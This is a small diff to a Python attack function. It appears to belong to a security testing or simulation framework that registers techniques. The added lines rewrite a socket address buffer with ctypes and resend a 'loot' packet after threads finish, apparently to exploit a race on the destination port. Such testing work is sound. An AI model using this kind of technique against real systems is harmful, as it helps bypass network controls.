@@ -28,6 +28,8 @@ def attack(world):
         world.libc.sendto(descriptor, b"loot", 4, 0, buffer, 16)
     for thread in threads:
         thread.join()
+    ctypes.memmove(ctypes.addressof(buffer) + 2, ports[1], 2)  # threads that had no turn have swapped nothing
+    world.libc.sendto(descriptor, b"loot", 4, 0, buffer, 16)
 
 
 TECHNIQUE = Technique(
